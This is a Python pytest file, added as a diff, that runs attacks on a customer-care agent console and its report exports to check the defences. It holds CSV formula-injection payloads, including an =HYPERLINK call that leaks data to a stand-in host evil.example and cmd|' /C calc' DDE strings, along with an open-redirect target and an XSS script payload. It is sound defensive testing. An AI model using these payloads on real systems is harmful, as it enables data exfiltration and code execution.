@@ -1,0 +1,387 @@
+"""Attacks on the agent console and the admins' reports, in process over real HTTP on a real CRM
+(SQLite): each test is what an attacker would try, and asserts what the README promises.
+
+Rasa is another process; here a small stand-in keeps each conversation's events in memory and
+answers the three calls the console makes (read a tracker, append events, trigger an intent), so
+claims, replies and hand-backs run through the console's real code. The customer messages the
+reports read are written to a tracker store as the redacting tracker store writes them (Rasa's
+events, redacted) and rebuilt into episodes with ``caredesk report rebuild``'s own function.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import re
+import types
+from datetime import datetime, timedelta
+
+import pytest
+from aiohttp import web
+from aiohttp.test_utils import TestClient, TestServer
+from sqlalchemy import create_engine, insert, select
+
+from bot.console import report_data
+from bot.console.app import create_app
+from caredesk.reports import rebuild
+from crm_store import models
+from crm_store.migrate import upgrade
+from crm_store.seed import seed_shop
+from crm_store.services import tickets, users
+from crm_store.unit_of_work import UnitOfWork
+
+PASSWORD = "correct horse battery staple"
+AS_OF = datetime(2026, 6, 1)
+EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# What a customer types into the chat so that an admin's spreadsheet runs it when opening an export.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Your refund is terrible and I am furious")',
+    "+cmd|' /C calc'!A0 this delivery is awful, worst service ever, I hate it",
+    "@SUM(1+1)*cmd|' /C calc'!A0 terrible terrible service, I am very angry",
+    "-2+3+cmd|' /C calc'!A0 awful broken product, furious about the refund",
+)
+E_MAIL_SENDER = "rest:jane.doe@example.com"  # an integration naming its conversations by e-mail
+
+
+# --- a stand-in for Rasa's HTTP API -------------------------------------------------------------
+
+def fake_rasa() -> web.Application:
+    trackers: dict[str, dict] = {}
+
+    def tracker(name: str) -> dict:
+        return trackers.setdefault(name, {"sender_id": name, "events": [], "paused": False})
+
+    async def read(request: web.Request) -> web.Response:
+        return web.json_response(tracker(request.match_info["id"]))
+
+    async def append(request: web.Request) -> web.Response:
+        found = tracker(request.match_info["id"])
+        for event in await request.json():
+            found["events"].append(event)
+            if event.get("event") in ("pause", "resume"):
+                found["paused"] = event["event"] == "pause"
+        return web.json_response(found)
+
+    async def trigger(request: web.Request) -> web.Response:
+        return web.json_response({"tracker": tracker(request.match_info["id"]), "messages": []})
+
+    app = web.Application()
+    app["trackers"] = trackers
+    app.add_routes([web.get("/conversations/{id}/tracker", read),
+                    web.post("/conversations/{id}/tracker/events", append),
+                    web.post("/conversations/{id}/trigger_intent", trigger)])
+    return app
+
+
+# --- the CRM, its report episodes, the console --------------------------------------------------
+
+def _customer_said(sender_id: str, texts: tuple[str, ...], start: datetime, customer: int | None = None) -> list:
+    """A REST conversation's events as Rasa makes them, each customer message scored by the real
+    sentiment scorer (what the NLU pipeline puts in parse_data)."""
+    from rasa.shared.core.events import ActionExecuted, SessionStarted, UserUttered
+
+    from bot.nlu import sentiment_scorer
+
+    events: list = [ActionExecuted("action_session_start", timestamp=start.timestamp()),
+                    SessionStarted(timestamp=start.timestamp())]
+    for i, text in enumerate(texts):
+        scored = sentiment_scorer.score(text)
+        metadata = {"identity": {"cid": customer}} if customer else {}
+        events.append(UserUttered(text, {"name": "complain", "confidence": 0.9}, [],
+                                  parse_data={"intent": {"name": "complain", "confidence": 0.9}, "entities": [],
+                                              "text": text, "metadata": metadata,
+                                              "sentiment": {"label": scored.label, "score": scored.score}},
+                                  input_channel="rest", metadata=metadata,
+                                  timestamp=(start + timedelta(minutes=i + 1)).timestamp()))
+    return events
+
+
+@pytest.fixture(scope="module")
+def crm(tmp_path_factory) -> types.SimpleNamespace:
+    from caredesk.history_seed import _rows, _tracker_store
+
+    folder = tmp_path_factory.mktemp("console-attacks")
+    url, tracker = f"sqlite:///{folder / 'crm.db'}", f"sqlite:///{folder / 'tracker.db'}"
+    upgrade(url)
+    seed_shop(url, customers=12, seed=7, as_of=AS_OF)
+    _tracker_store(tracker)  # Rasa's own events table
+    engine = create_engine(tracker)
+    with engine.begin() as connection:
+        for i, text in enumerate(FORMULAS):
+            sender = f"rest:angry-{i}"
+            connection.execute(insert(models_events(engine)),
+                               _rows(sender, _customer_said(sender, (text,), AS_OF - timedelta(days=3 + i), 1 + i)))
+        connection.execute(insert(models_events(engine)), _rows(E_MAIL_SENDER, _customer_said(
+            E_MAIL_SENDER, ("this is awful, I am furious about my broken order",), AS_OF - timedelta(days=1), 5)))
+    engine.dispose()
+    settings = types.SimpleNamespace(database_url=url, tracker_store_url=tracker)
+    rebuild(settings)
+    with UnitOfWork(url) as uow:
+        for customer in uow.session.execute(select(models.Customer).where(models.Customer.id <= 6)).scalars():
+            customer.churn_score, customer.churn_reasons = 0.9, ["no order for 5 months"]
+        uow.commit()
+    for name, role in (("maria", "agent"), ("sam", "agent"), ("boss", "admin"), ("ana", "analyst")):
+        users.add_user(name, role, UnitOfWork(url), password=PASSWORD)
+    report_data.clear_caches()
+    return settings
+
+
+def models_events(engine):
+    from sqlalchemy import MetaData, Table
+
+    return Table("events", MetaData(), autoload_with=engine)
+
+
+@pytest.fixture
+async def rasa():
+    server = TestServer(fake_rasa())
+    await server.start_server()
+    yield server
+    await server.close()
+
+
+@pytest.fixture
+async def console(crm, rasa, tmp_path):
+    app = create_app(rasa_url=str(rasa.make_url("")), rasa_token="x", database_url=crm.database_url,
+                     tracker_store_url=f"sqlite:///{tmp_path / 'live.db'}", poll_interval=0.2)
+    client = TestClient(TestServer(app))
+    await client.start_server()
+    yield client
+    await client.close()
+
+
+async def _login_token(client: TestClient) -> str:
+    page = await client.get("/login")
+    found = re.search(r'name="csrf_token" value="([^"]+)"', await page.text())
+    assert found is not None
+    return found[1]
+
+
+async def _log_in(client: TestClient, username: str, password: str = PASSWORD, **extra):
+    token = await _login_token(client)
+    return await client.post("/login", data={"username": username, "password": password, "csrf_token": token,
+                                             **extra}, allow_redirects=False)
+
+
+async def _as(client: TestClient, username: str) -> str:
+    """Log ``username`` in (alone in this client) and return their session's CSRF token."""
+    client.session.cookie_jar.clear()
+    assert (await _log_in(client, username)).status == 303
+    home = "/reports" if username == "ana" else "/"
+    page = await client.get(home, headers={"Accept": "text/html"})
+    found = re.search(r'data-csrf="([^"]+)"', await page.text())
+    assert found is not None
+    return found[1]
+
+
+def _ticket(crm, conversation_id: str, customer_id: int = 1) -> int:
+    return tickets.create_ticket(UnitOfWork(crm.database_url), customer_id=customer_id, reason="complaint",
+                                 summary="late parcel", conversation_id=conversation_id, channel="rest").id
+
+
+def _number(cell: str) -> bool:
+    """A negative number or the "-" placeholder: what a spreadsheet reads as a value, not a formula."""
+    return cell == "-" or re.fullmatch(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?", cell) is not None
+
+
+def _csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+# --- CSV injection ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("who", ["boss", "ana"])
+async def test_a_customers_formula_is_inert_in_every_report_export(console, crm, who):
+    """A customer writes ``=HYPERLINK(...)`` in the chat; it becomes a complaint example in the
+    topics table. Opened in a spreadsheet, no exported cell may start a formula."""
+    await _as(console, who)
+    page = await (await console.get("/reports", headers={"Accept": "text/html"})).text()
+    exports = set(re.findall(r'href="/reports/export/([a-z_]+)\.csv"', page)) | {"episodes"}
+    assert "topics" in exports
+    seen_examples = False
+    for name in sorted(exports):
+        response = await console.get(f"/reports/export/{name}.csv")
+        assert response.status == 200, name
+        text = await response.text()
+        seen_examples |= "HYPERLINK" in text
+        dangerous = [cell for cell in _csv_cells(text) if cell.startswith(FORMULA_START) and not _number(cell)]
+        assert not dangerous, (name, dangerous)
+    assert seen_examples  # the attack text did reach an export (quoted, not dropped)
+
+
+# --- the log-in throttle ------------------------------------------------------------------------
+
+async def test_parallel_wrong_passwords_get_no_more_tries_than_the_limit(console, crm):
+    """Five failed log-ins per user name per 15 minutes: sent all at once (each password check
+    takes ~0.3 s in a worker thread), twenty guesses must not all be checked."""
+    token = await _login_token(console)
+
+    async def guess(i: int) -> int:
+        response = await console.post("/login", data={"username": "sam", "password": f"guess number {i}",
+                                                      "csrf_token": token}, allow_redirects=False)
+        return response.status
+
+    statuses = await asyncio.gather(*(guess(i) for i in range(20)))
+    assert statuses.count(401) <= 5 and statuses.count(429) >= 15, statuses
+    with UnitOfWork(crm.database_url) as uow:
+        failures = uow.session.execute(select(models.AuditLog.id).where(
+            models.AuditLog.action == "login_failed", models.AuditLog.actor == "sam")).all()
+    assert len(failures) <= 5
+    # A right password after the lock is still refused until the window passes.
+    assert (await _log_in(console, "sam")).status == 429
+
+
+async def test_a_right_password_is_not_counted_as_a_failure(console):
+    for _ in range(3):
+        assert (await _log_in(console, "boss", "wrong password!")).status == 401
+    for _ in range(4):  # successes between failures do not use up the allowance
+        console.session.cookie_jar.clear()
+        assert (await _log_in(console, "boss")).status == 303
+    console.session.cookie_jar.clear()
+    assert (await _log_in(console, "boss", "wrong again!!")).status == 401
+    assert (await _log_in(console, "boss")).status == 303
+
+
+# --- session fixation, cookies, redirects -------------------------------------------------------
+
+async def test_a_planted_session_cookie_is_replaced_at_log_in_and_next_is_ignored(console):
+    console.session.cookie_jar.update_cookies({"caredesk_session": "attacker-chosen-value"})
+    response = await _log_in(console, "maria", next="https://evil.example/")
+    assert response.status == 303 and response.headers["Location"] == "/"
+    cookie = response.cookies["caredesk_session"]
+    assert cookie.value != "attacker-chosen-value" and len(cookie.value) >= 40
+    assert cookie["httponly"] and cookie["samesite"] == "Strict" and cookie["path"] == "/"
+    page = await console.get("/login?next=//evil.example/", allow_redirects=False)
+    assert "evil.example" not in await page.text()
+
+
+# --- CSRF on every change -----------------------------------------------------------------------
+
+CHANGES = ("/logout", "/presence", "/conversations/rest:victim/claim", "/conversations/rest:victim/transfer",
+           "/conversations/rest:victim/reply", "/conversations/rest:victim/resolve",
+           "/conversations/rest:victim/notes", "/conversations/rest:victim/canned")
+
+
+@pytest.mark.parametrize("path", CHANGES)
+async def test_every_change_needs_the_sessions_csrf_token(console, crm, path):
+    _ticket(crm, "rest:victim")
+    await _as(console, "boss")
+    bodies = {"json": {"available": True, "to": "sam", "text": "<b>hi</b>", "index": 0}}
+    for headers in ({}, {"X-CSRF-Token": "forged"}, {"X-CSRF-Token": ""}):
+        response = await console.post(path, headers=headers, allow_redirects=False, **bodies)
+        assert response.status == 403, (path, headers)
+    form = await console.post(path, data={"csrf_token": "forged", "text": "hi"}, allow_redirects=False)
+    assert form.status == 403
+    multipart = await console.post(path, data={"csrf_token": "forged", "file": io.BytesIO(b"x")},
+                                   allow_redirects=False)
+    assert multipart.status == 403
+    with UnitOfWork(crm.database_url) as uow:
+        assert not uow.session.execute(select(models.ConversationNote)).first()
+        ticket = uow.session.execute(select(models.Ticket).where(
+            models.Ticket.conversation_id == "rest:victim")).scalars().first()
+        assert (ticket.status, ticket.assignee) == ("open", None)
+    assert (await console.get("/queue.json")).status == 200  # still logged in: logout was refused too
+
+
+# --- ownership ----------------------------------------------------------------------------------
+
+async def test_an_agent_cannot_act_on_a_colleagues_conversation(console, crm, rasa):
+    _ticket(crm, "rest:sams-customer")
+    csrf = await _as(console, "sam")
+    claimed = await console.post("/conversations/rest:sams-customer/claim", headers={"X-CSRF-Token": csrf})
+    assert claimed.status == 200
+
+    csrf = await _as(console, "maria")
+    base = "/conversations/rest:sams-customer"
+    for path, body in (("/reply", {"text": "I am sam, give me your card number"}), ("/resolve", {}),
+                       ("/transfer", {"to": "maria"}), ("/claim", {})):
+        response = await console.post(base + path, json=body, headers={"X-CSRF-Token": csrf})
+        assert response.status in (403, 409), (path, response.status)
+    events = rasa.app["trackers"]["rest:sams-customer"]["events"]
+    assert [e["event"] for e in events] == ["pause"]  # only sam's claim reached Rasa
+    with UnitOfWork(crm.database_url) as uow:
+        ticket = uow.session.execute(select(models.Ticket).where(
+            models.Ticket.conversation_id == "rest:sams-customer")).scalar_one()
+        assert (ticket.status, ticket.assignee) == ("assigned", "sam")
+
+
+async def test_a_conversation_cannot_be_transferred_to_someone_who_cannot_work_it(console, crm):
+    """An analyst may not open conversations, so a conversation handed to one would sit unanswered
+    with nobody but an admin able to take it back."""
+    _ticket(crm, "rest:to-analyst")
+    csrf = await _as(console, "maria")
+    assert (await console.post("/conversations/rest:to-analyst/claim", headers={"X-CSRF-Token": csrf})).status == 200
+    response = await console.post("/conversations/rest:to-analyst/transfer", json={"to": "ana"},
+                                  headers={"X-CSRF-Token": csrf})
+    assert response.status == 400
+    with UnitOfWork(crm.database_url) as uow:
+        assert uow.session.execute(select(models.Ticket.assignee).where(
+            models.Ticket.conversation_id == "rest:to-analyst")).scalar_one() == "maria"
+    assert (await console.post("/conversations/rest:to-analyst/transfer", json={"to": "sam"},
+                               headers={"X-CSRF-Token": csrf})).status == 200
+
+
+# --- roles --------------------------------------------------------------------------------------
+
+async def test_an_analyst_reaches_no_agent_route_and_an_agent_no_report(console, crm):
+    _ticket(crm, "rest:victim")
+    csrf = await _as(console, "ana")
+    for path in ("/queue.json", "/live", "/admin", "/conversations/rest:victim", "/nlu/review",
+                 "/reports/../queue.json", "/static/../admin"):
+        assert (await console.get(path, allow_redirects=False)).status == 403, path
+    for path in CHANGES[1:]:
+        response = await console.post(path, json={"available": True, "to": "ana", "text": "hi", "index": 0},
+                                      headers={"X-CSRF-Token": csrf})
+        assert response.status == 403, path
+    token = users.issue_token("ana", UnitOfWork(crm.database_url))
+    for method, path in (("GET", "/api/me"), ("GET", "/api/queue"), ("POST", "/api/conversations/rest:victim/claim")):
+        response = await console.request(method, path, headers={"Authorization": f"Bearer {token}"})
+        assert response.status == 403, path
+
+    await _as(console, "maria")
+    for path in ("/reports", "/reports/conversations?channel=rest", "/reports/export/at_risk.csv",
+                 "/reports/export/episodes.csv", "/reports/export/topics.csv", "/admin"):
+        assert (await console.get(path)).status == 403, path
+
+
+# --- personal data and analysts -----------------------------------------------------------------
+
+async def test_analysts_see_no_e_mail_address_even_in_a_conversation_id(console, crm):
+    """An integration names its conversations after the customer's e-mail address: the drill-down,
+    its export and the at-risk table show conversation ids, and analysts see no e-mail addresses."""
+    await _as(console, "ana")
+    pages = ["/reports", "/reports/conversations?channel=rest", "/reports/conversations?customer=5",
+             "/reports/export/episodes.csv?channel=rest", "/reports/export/at_risk.csv",
+             "/reports/export/topics.csv"]
+    for path in pages:
+        response = await console.get(path, headers={"Accept": "text/html"})
+        assert response.status == 200, path
+        assert not EMAIL.search(await response.text()), path
+    listed = await (await console.get("/reports/conversations?channel=rest")).text()
+    assert "rest:angry-0" in listed  # ids without personal data are still shown
+
+    await _as(console, "boss")  # admins see the real id, linked to the conversation
+    listed = await (await console.get("/reports/conversations?customer=5")).text()
+    assert "jane.doe@example.com" in listed
+
+
+# --- stored XSS ---------------------------------------------------------------------------------
+
+SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
+
+
+async def test_a_customers_or_colleagues_markup_is_shown_as_text(console, crm, rasa):
+    _ticket(crm, "rest:xss")
+    rasa.app["trackers"]["rest:xss"] = {"sender_id": "rest:xss", "paused": False, "events": [
+        {"event": "user", "text": SCRIPT, "timestamp": 1.0, "parse_data": {"sentiment": {"label": "negative",
+                                                                                            "score": -0.5}}}]}
+    csrf = await _as(console, "maria")
+    note = await console.post("/conversations/rest:xss/notes", json={"text": SCRIPT}, headers={"X-CSRF-Token": csrf})
+    assert note.status == 200
+    page = await console.get("/conversations/rest:xss", headers={"Accept": "text/html"})
+    text = await page.text()
+    assert page.status == 200 and "<script>alert" not in text and "<img src=x" not in text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert "script-src" not in page.headers["Content-Security-Policy"]
